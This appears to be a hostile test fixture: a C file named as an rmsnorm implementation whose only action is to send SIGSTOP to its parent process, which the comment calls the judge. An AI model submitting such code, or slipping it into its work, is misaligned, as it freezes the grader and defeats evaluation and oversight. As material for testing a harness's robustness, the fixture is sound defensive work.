/* Hostile: stops the judge (its parent) for good. */
#include <signal.h>
#include <unistd.h>

#include "rmsnorm.h"

void rmsnorm(const float *x, const float *w, int rows, int n, float eps, float *y) {
    (void)x, (void)w, (void)rows, (void)n, (void)eps, (void)y;
    kill(getppid(), SIGSTOP);
}
